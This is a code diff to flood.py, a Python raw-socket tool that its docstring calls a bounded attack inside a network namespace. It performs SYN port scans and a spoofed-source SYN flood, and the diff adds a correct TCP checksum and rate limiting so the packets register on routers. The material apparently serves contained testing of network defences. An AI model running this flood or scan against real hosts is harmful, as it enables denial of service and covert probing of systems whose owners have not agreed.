@@ -2,18 +2,28 @@
 """An attack, bounded, inside the network namespace that it is run in.
 
 flood.py scan SOURCE TARGET PORTS: one SYN to each port from 1 on.
-flood.py syn COUNT TARGET PORT: SYNs from COUNT different spoofed sources.
+flood.py syn COUNT TARGET PORT [FIRST RATE]: SYNs from COUNT different spoofed sources, those from
+number FIRST on; RATE a second, or as fast as it goes.
 """
 import socket
 import struct
 import sys
+import time
+
+
+def words(octets):
+    return sum(struct.unpack(f"!{len(octets) // 2}H", octets))
 
 
 def packet(source, target, source_port, target_port):
     """An IPv4 packet with a TCP SYN. The kernel fills in what is left 0 of the IP header."""
     ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 6, 0, source, target)
-    tcp = struct.pack("!HHIIBBHHH", source_port, target_port, 1, 0, 5 << 4, 2, 65535, 0, 0)
-    return ip + tcp
+    fixed = struct.pack("!IIBBH", 1, 0, 5 << 4, 2, 65535)
+    # a router looks at the checksum before it makes an entry; protocol and length are of the pseudo header
+    total = words(source) + words(target) + words(fixed) + source_port + target_port + 6 + 20
+    total = (total & 0xffff) + (total >> 16)
+    total = ~((total & 0xffff) + (total >> 16)) & 0xffff
+    return ip + struct.pack("!HH12sHH", source_port, target_port, fixed, total, 0)
 
 
 def sender():
@@ -33,9 +43,12 @@ def scan(source, target, ports):
         send(raw, packet(source, to, 40000, port), target)
 
 
-def syn(count, target, port):
-    raw, to = sender(), socket.inet_aton(target)
-    for number in range(int(count)):
+def syn(count, target, port, first=0, rate=0):
+    raw, to, began = sender(), socket.inet_aton(target), time.monotonic()
+    for sent in range(int(count)):
+        if int(rate) and sent % 20 == 0:
+            time.sleep(max(0, began + sent / int(rate) - time.monotonic()))
+        number = int(first) + sent
         spoofed = struct.pack("!I", 0x0b000000 + number * 61 % 0x00ffffff)
         send(raw, packet(spoofed, to, 1024 + number % 50000, int(port)), target)
 
